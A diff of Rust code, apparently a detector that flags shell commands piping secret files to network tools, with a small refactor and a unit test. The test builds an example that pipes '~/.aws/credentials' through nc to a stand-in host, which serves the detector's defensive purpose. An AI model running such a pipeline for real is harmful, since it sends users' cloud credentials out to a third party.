@@ -291,7 +291,7 @@ fn secret_piped_to_upload(cmd: &Command) -> bool {
         }
         _ => true,
     };
-    let secret_in = cmd.upstream.iter().any(reads_secret)
+    let secret_in = cmd.upstream.iter().any(|u| reads_secret(u))
         || cmd
             .redirects
             .iter()
@@ -420,7 +420,7 @@ fn sends_secret_through(cmd: &Command) -> bool {
         return socat_sends_secret(cmd);
     }
     // ssh's arguments name keys and configs it reads locally; only its stdin leaves the machine.
-    cmd.upstream.iter().any(reads_secret)
+    cmd.upstream.iter().any(|u| reads_secret(u))
         || cmd
             .redirects
             .iter()
@@ -489,10 +489,10 @@ mod tests {
     #[test]
     fn secret_pipes() {
         let mut nc = Command::new("nc", &["x.example", "9000"]);
-        nc.upstream = vec![Command::new("cat", &["~/.aws/credentials"])];
+        nc.upstream = vec![Command::new("cat", &["~/.aws/credentials"]).into()];
         assert!(secret_piped_to_upload(&nc));
         let mut curl = Command::new("curl", &["-d", "@-", "u"]);
-        curl.upstream = vec![Command::new("cat", &["~/.ssh/id_ed25519.pub"])];
+        curl.upstream = vec![Command::new("cat", &["~/.ssh/id_ed25519.pub"]).into()];
         assert!(!secret_piped_to_upload(&curl));
     }
 
